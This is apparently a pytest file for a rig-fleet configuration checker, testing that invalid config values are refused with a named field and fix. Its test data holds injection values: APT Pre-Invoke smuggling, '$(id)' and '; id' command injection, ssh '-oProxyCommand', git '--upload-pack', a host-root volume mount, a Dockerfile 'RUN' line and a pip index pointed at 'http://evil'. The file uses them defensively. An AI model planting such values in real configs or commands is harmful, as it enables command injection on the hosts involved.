"""Validation by type (issue 18, finding 6 and the values behind findings 2 and 3): each value the
audit saw accepted is refused by `rigfleet check` with exit 2 and one line naming the rig (or pin
set), the field, the value and a fix; valid spellings of the same fields still load."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner

from rigfleet import loader
from rigfleet.cli import main
from tests.conftest import write_yaml

PRE_INVOKE = 'http://proxy";APT::Update::Pre-Invoke{"touch${IFS}x";};Dummy::x"'
MIRROR = {"key_url": "http://m.lan/key.gpg", "key_fingerprint": "A" * 40}

# (field, value) set in host_vars/rig-01.yml
RIG_VALUES: list[tuple[str, Any]] = [
    ("apt_proxy", PRE_INVOKE),
    ("apt_proxy", "http://proxy.lan:99999"),
    ("apt_proxy", "http://proxy.lan:3142/some/path"),
    ("apt_proxy", "ftp://proxy.lan:3142"),
    ("registry", "registry.lan:99999"),
    ("registry", "registry.lan:0"),
    ("registry", "-registry.lan"),
    ("ssh_port", True),
    ("gpu_count", True),
    ("bind_address", "224.0.0.1"),
    ("bind_address", "255.255.255.255"),
    ("bind_address", "ff02::1"),
    ("model_dir", "/srv/models:/host:rw"),
    ("model_dir", "/srv/models\n  - /:/host"),
    ("model_dir", "/srv/$(id)"),
    ("cache_dir", "/var/cache/a b"),
    ("smoke_image", "nvidia/cuda:13 ; id"),
    ("smoke_image", "Nvidia/Cuda"),
    ("ssh_user", "ops;id"),
    ("ssh_hostname", "-oProxyCommand=id"),
    ("cuda_repo", {"url": 'http://m.lan/"x', **MIRROR}),
    ("cuda_repo", {"url": "http://m.lan:70000/cuda", **MIRROR}),
    ("cuda_repo", {"url": "gopher://m.lan/cuda", **MIRROR}),
    ("pinset", "seed\nvolumes: [/]"),
]

# (dotted path inside the pin set, value)
PINSET_VALUES: list[tuple[str, Any]] = [
    ("base_image.tag", ""),
    ("base_image.tag", "nightly x"),
    ("base_image.tag", "-x"),
    ("base_image.repository", ""),
    ("base_image.repository", "vllm/vllm openai"),
    ("base_image.repository", "vllm/VLLM"),
    ("vllm_version", "0.20.2$(id)"),
    ("vllm_version", "latest"),
    ("python_deps", {"xxhash; id": "3.5.0"}),
    ("python_deps", {"xxhash": "3.5.0; id"}),
    ("python_deps", {"--index-url=http://evil": "1"}),
    ("genesis.source", "--upload-pack=touch /tmp/pwned"),
    ("genesis.source", "relative/path"),
    ("genesis.known_good_vllm", ["0.20 $(id)"]),
    ("overlays.0.files.0.source", "--output=/etc/passwd"),
    ("overlays.0.name", "a\nb"),
    ("cuda", "13.0\nRUN id"),
    ("pip_index_url", "http://index.lan:0/simple"),
    ("driver.version", "580; id"),
]


def run(inventory: Path, *args: str) -> tuple[int, str]:
    result = CliRunner().invoke(main, list(args), env={"RIGFLEET_INVENTORY": str(inventory)})
    return result.exit_code, result.output


def problem_lines(output: str) -> list[str]:
    return [line for line in output.splitlines() if line.startswith("error:")]


@pytest.mark.parametrize(("field", "value"), RIG_VALUES, ids=[f"{f}={v!r:.40}" for f, v in RIG_VALUES])
def test_a_wrong_rig_value_is_refused_naming_rig_field_value_and_fix(example_inventory: Path, field: str,
                                                                     value: Any) -> None:
    write_yaml(example_inventory / "host_vars" / "rig-01.yml", {field: value})
    code, out = run(example_inventory, "check")
    assert code == 2, out
    assert "Traceback" not in out
    [line] = [line for line in problem_lines(out) if field in line]
    assert line.startswith(f"error: rig-01: {field}") and ". Fix: " in line
    assert "correct the value" not in line  # a specific fix, not the generic one
    shown = str(value["url"] if isinstance(value, dict) else value).split("\n")[0][:20]
    assert shown in line or repr(value)[:20] in line


def set_path(body: dict[str, Any], dotted: str, value: Any) -> None:
    *parents, last = dotted.split(".")
    node: Any = body
    for part in parents:
        node = node[int(part)] if isinstance(node, list) else node.setdefault(part, {})
    if isinstance(node, list):
        node[int(last)] = value
    else:
        node[last] = value


@pytest.mark.parametrize(("dotted", "value"), PINSET_VALUES, ids=[f"{f}={v!r:.40}" for f, v in PINSET_VALUES])
def test_a_wrong_pinset_value_is_refused_naming_the_field_and_fix(example_inventory: Path, dotted: str,
                                                                  value: Any) -> None:
    path = example_inventory / "pinsets.yml"
    pinsets = yaml.safe_load(path.read_text())
    set_path(pinsets["seed-2026-05"], dotted, value)
    write_yaml(path, pinsets)
    code, out = run(example_inventory, "check")
    assert code == 2, out
    assert "Traceback" not in out
    lines = problem_lines(out)
    top = dotted.split(".")[0]
    assert any(line.startswith(f"error: pinset seed-2026-05: {top}") and ". Fix: " in line for line in lines), out
    assert all("\n" not in line for line in lines)


@pytest.mark.parametrize(("field", "value", "stored"), [
    ("apt_proxy", "http://proxy.lan:3142", "http://proxy.lan:3142"),
    ("apt_proxy", "HTTP://Proxy.lan:3142/", "http://Proxy.lan:3142/"),
    ("registry", "registry.lan:5000", "registry.lan:5000"),
    ("bind_address", "::1", "::1"),
    ("bind_address", "0:0::1", "::1"),
    ("smoke_image", "local", "local"),
    ("smoke_image", "localhost:5000/cuda:13.0.2-base-ubuntu22.04", "localhost:5000/cuda:13.0.2-base-ubuntu22.04"),
    ("model_dir", "/srv/models-2", "/srv/models-2"),
])
def test_valid_spellings_load_normalised(example_inventory: Path, field: str, value: Any, stored: Any) -> None:
    write_yaml(example_inventory / "host_vars" / "rig-01.yml", {field: value})
    assert getattr(loader.load_fleet(example_inventory).rig("rig-01"), field) == stored


def test_a_group_name_outside_the_grammar_is_refused(example_inventory: Path) -> None:
    hosts = yaml.safe_load((example_inventory / "hosts.yml").read_text())
    hosts["all"]["children"]["Lab Rigs"] = hosts["all"]["children"].pop("lab")
    write_yaml(example_inventory / "hosts.yml", hosts)
    code, out = run(example_inventory, "check")
    assert code == 2 and "groups" in out and "'Lab Rigs'" in out and "Fix: use lower-case" in out
